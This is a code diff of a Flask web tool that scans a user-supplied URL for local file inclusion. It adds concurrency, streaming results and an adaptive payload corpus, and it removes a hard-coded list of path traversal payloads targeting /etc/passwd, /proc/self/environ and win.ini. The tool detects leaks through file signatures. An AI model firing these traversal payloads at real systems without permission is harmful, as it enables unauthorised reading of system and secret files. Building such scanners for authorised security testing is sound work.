@@ -1,23 +1,17 @@
-from flask import Blueprint, request, jsonify, send_from_directory
-import requests
+from flask import Blueprint, request, jsonify, Response, send_from_directory
+import json
+from urllib.parse import unquote
+import re
 import urllib3
+from common.http import get_session, get_executor
+from common.scheduler import iter_completed
+from lfi.payloads import PayloadCorpus, MAX_DEPTH, MAX_REQUESTS
 import os
 
 urllib3.disable_warnings(urllib3.exceptions.InsecureRequestWarning)
 
 lfi_bp = Blueprint('lfi_bp', __name__)
 
-LFI_PAYLOADS = [
-    "../../etc/passwd",
-    "../../../../etc/passwd",
-    "../../windows/win.ini",
-    "../../../../windows/win.ini",
-    "../../proc/self/environ",
-    "../../../../proc/self/environ",
-    "../../etc/hosts",
-    "../../../../etc/hosts"
-]
-
 LFI_SIGNATURES = {
     "passwd": "root:",
     "win.ini": "[extensions]",
@@ -25,11 +19,71 @@ LFI_SIGNATURES = {
     "hosts": "localhost"
 }
 
+# All markers in one alternation, so each body is scanned once
+SIGNATURE_REGEX = re.compile("|".join(re.escape(marker) for marker in LFI_SIGNATURES.values()))
+MARKER_SIGNATURES = {marker: sig for sig, marker in LFI_SIGNATURES.items()}
+
+DEFAULT_CONCURRENCY = 8
+MAX_CONCURRENCY = 50
+MAX_DEPTH_LIMIT = 16
+MAX_REQUESTS_LIMIT = 500
+
 @lfi_bp.route("/", methods=["GET"])
 def serve_ui():
     folder_path = os.path.dirname(os.path.abspath(__file__))
     return send_from_directory(folder_path, "index.html")
 
+def detect_signatures(body):
+    """Names of the LFI_SIGNATURES whose marker appears in body, in declaration order."""
+    found = set()
+    for m in SIGNATURE_REGEX.finditer(body):
+        found.add(MARKER_SIGNATURES[m.group()])
+        if len(found) == len(LFI_SIGNATURES):
+            break
+    return [sig for sig in LFI_SIGNATURES if sig in found]
+
+def test_payload(session, base_url, payload):
+    target = base_url + payload
+    try:
+        res = session.get(target, timeout=6, verify=False)
+        text = res.text[:500]
+        detected = detect_signatures(res.text)
+
+        return {
+            "payload": payload,
+            "url": target,
+            "status_code": res.status_code,
+            # Body length without reflections of the payload, used to fingerprint failures
+            "length": len(res.text.replace(payload, "").replace(unquote(payload), "")),
+            "detected": detected,
+            "snippet": text.replace("\n", "\\n"),
+            "vulnerable": len(detected) > 0
+        }
+    except Exception as e:
+        return {
+            "payload": payload,
+            "url": target,
+            "error": str(e),
+            "vulnerable": False
+        }
+
+def iter_findings(base_url, corpus, concurrency, stop_on_first=False):
+    """Yield findings as they complete; with stop_on_first, stop after the first vulnerable one.
+
+    Each finding is fed back to the corpus, which prunes the payloads still to come.
+    """
+    session = get_session()
+    findings = iter_completed(lambda payload: test_payload(session, base_url, payload), corpus,
+                              concurrency, executor=get_executor())
+    try:
+        for finding in findings:
+            corpus.record(finding)
+            yield finding
+            if stop_on_first and finding["vulnerable"]:
+                return
+    finally:
+        findings.close()
+
 @lfi_bp.route("/lfi-test", methods=["POST"])
 def lfi_test():
     data = request.get_json()
@@ -38,29 +92,21 @@ def lfi_test():
     if not base_url or "=" not in base_url:
         return jsonify({"error": "Enter a valid URL with parameter, e.g. http://site.com/page?file="}), 400
 
-    findings = []
-
-    for payload in LFI_PAYLOADS:
-        try:
-            target = base_url + payload
-            res = requests.get(target, timeout=6, verify=False)
-            text = res.text[:500]
-            detected = [sig for sig, marker in LFI_SIGNATURES.items() if marker in res.text]
-
-            findings.append({
-                "payload": payload,
-                "url": target,
-                "status_code": res.status_code,
-                "detected": detected,
-                "snippet": text.replace("\n", "\\n"),
-                "vulnerable": len(detected) > 0
-            })
-        except Exception as e:
-            findings.append({
-                "payload": payload,
-                "url": base_url + payload,
-                "error": str(e),
-                "vulnerable": False
-            })
-
-    return jsonify({"results": findings})
+    concurrency = min(max(int(data.get("concurrency", DEFAULT_CONCURRENCY)), 1), MAX_CONCURRENCY)
+    stop_on_first = bool(data.get("stop_on_first", False))
+    corpus = PayloadCorpus(max_depth=min(max(int(data.get("max_depth", MAX_DEPTH)), 1), MAX_DEPTH_LIMIT),
+                           max_requests=min(max(int(data.get("max_requests", MAX_REQUESTS)), 1), MAX_REQUESTS_LIMIT))
+    findings = iter_findings(base_url, corpus, concurrency, stop_on_first)
+
+    if data.get("stream"):
+        def generate():
+            tested = vulnerable = 0
+            for finding in findings:
+                tested += 1
+                vulnerable += finding["vulnerable"]
+                yield json.dumps(finding) + "\n"
+            yield json.dumps({"done": True, "tested": tested, "vulnerable": vulnerable}) + "\n"
+        return Response(generate(), mimetype="text/plain")
+
+    results = list(findings)
+    return jsonify({"results": sorted(results, key=lambda f: corpus.order[f["payload"]])})